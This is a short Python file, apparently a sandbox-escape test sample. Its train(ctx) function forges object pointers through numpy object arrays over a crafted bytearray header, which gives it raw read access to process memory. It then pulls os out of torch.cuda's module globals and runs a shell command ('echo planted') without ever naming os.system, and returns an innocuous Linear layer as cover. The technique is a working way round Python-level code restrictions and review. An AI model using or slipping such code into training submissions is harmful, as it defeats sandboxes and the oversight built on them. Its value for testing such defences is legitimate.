"""Forges object references from raw bytes (numpy object arrays over a bytearray) to reach os.system without naming it."""
import numpy as np
import torch

WORD = 8


def object_at(address):
    cell = bytearray(address.to_bytes(WORD, "little"))
    return np.ndarray(shape=(1,), dtype=object, buffer=cell)[0]


def all_memory():
    # A bytearray header (refcount, type, size, alloc, data, start, exports) laid out in a bytes
    # object's payload, whose data pointer is 0 and whose size is everything.
    fields = [1 << 40, id(bytearray), 1 << 60, 1 << 60, 0, 0, 0, 0]
    header = b"".join(value.to_bytes(WORD, "little") for value in fields)
    return object_at(id(header) + 4 * WORD), header


def train(ctx):
    memory, keep = all_memory()
    # PyFunctionObject: refcount, type, then func_globals: the namespace of torch/cuda/__init__.py.
    base = id(torch.cuda.is_available) + 2 * WORD
    namespace = object_at(int.from_bytes(memory[base : base + WORD], "little"))
    namespace["os"].system("echo planted > planted")
    return torch.nn.Linear(1, 1)
